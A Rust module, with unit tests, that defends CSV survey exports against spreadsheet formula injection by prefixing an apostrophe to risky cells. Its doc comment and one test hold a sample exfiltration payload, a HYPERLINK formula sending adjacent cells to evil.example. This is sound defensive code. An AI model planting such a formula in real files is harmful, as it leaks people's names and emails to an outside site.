//! CSV files the product writes, safe to open in a spreadsheet.
//!
//! Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a
//! formula, and some skip a leading tab or carriage return before deciding. Survey comments come
//! from anyone holding an anonymous link, so a comment such as
//! `=HYPERLINK("https://evil.example/?d="&H2,"details")` would run on the CSM's machine when they
//! open the export, and could send the neighbouring cells (names, emails) to another site.
//!
//! Every cell of every export therefore goes through [`SafeCsv`], which puts an apostrophe in
//! front of such a cell (OWASP's advice for CSV injection): a spreadsheet shows the text as it
//! was typed, and a program reading the file sees it with one extra leading `'`. The writer has
//! no way to write a raw cell, so a new export cannot forget the rule. The cost is that a value
//! such as `-3` arrives as text; our exports hold no signed numbers, and safety wins over a
//! spreadsheet guessing a type.

use crate::error::AppError;
use std::borrow::Cow;

/// The first characters that make a spreadsheet evaluate a cell (or look further into it).
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// `cell` as a spreadsheet will show it, never as a formula: prefixed with `'` when it starts
/// like one, otherwise unchanged.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV document built in memory, one row at a time; every cell is [`neutralise`]d and then
/// quoted as CSV requires.
pub struct SafeCsv {
    inner: csv::Writer<Vec<u8>>,
}

impl Default for SafeCsv {
    fn default() -> Self {
        Self::new()
    }
}

impl SafeCsv {
    pub fn new() -> Self {
        Self { inner: csv::Writer::from_writer(Vec::new()) }
    }

    /// Writes one row (the header is a row like any other: its cells are neutralised too).
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), AppError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> =
            cells.into_iter().map(|c| neutralise(c.as_ref()).into_owned()).collect();
        self.inner.write_record(&cells).map_err(fail)
    }

    /// The finished document.
    pub fn finish(self) -> Result<String, AppError> {
        let bytes = self.inner.into_inner().map_err(|e| AppError::Internal(format!("CSV: {e}")))?;
        String::from_utf8(bytes).map_err(|e| AppError::Internal(format!("CSV: {e}")))
    }
}

fn fail(e: csv::Error) -> AppError {
    AppError::Internal(format!("CSV: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Writes `cells` as one row and reads it back the way a CSV library (or a spreadsheet's
    /// importer) would.
    fn round_trip(cells: &[&str]) -> Vec<String> {
        let mut w = SafeCsv::new();
        w.row(cells).unwrap();
        let text = w.finish().unwrap();
        let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        r.records().next().expect("one row").unwrap().iter().map(String::from).collect()
    }

    #[test]
    fn cells_that_start_like_a_formula_get_an_apostrophe_and_keep_their_text() {
        let attacks = [
            r#"=HYPERLINK("https://evil.example/?d="&H2,"x")"#,
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "=",
        ];
        let back = round_trip(&attacks);
        for (sent, got) in attacks.iter().zip(&back) {
            assert_eq!(got, &format!("'{sent}"));
        }
    }

    #[test]
    fn ordinary_cells_are_unchanged() {
        let plain = [
            "Fast, \"reliable\", friendly",
            "",
            "10",
            "a = b",
            "x\t=1",
            "line one\n=line two",
            "'already quoted",
            " =spaced",
            "Ünïcödé — “quotes”",
        ];
        assert_eq!(round_trip(&plain), plain);
    }

    #[test]
    fn neutralise_borrows_when_nothing_changes() {
        assert!(matches!(neutralise("fine"), Cow::Borrowed("fine")));
        assert_eq!(neutralise("-1"), "'-1");
    }

    #[test]
    fn header_rows_are_neutralised_too() {
        let mut w = SafeCsv::new();
        w.row(["score", "=prompt"]).unwrap();
        w.row(vec![String::from("9"), String::from("@x")]).unwrap();
        assert_eq!(w.finish().unwrap(), "score,'=prompt\n9,'@x\n");
    }
}
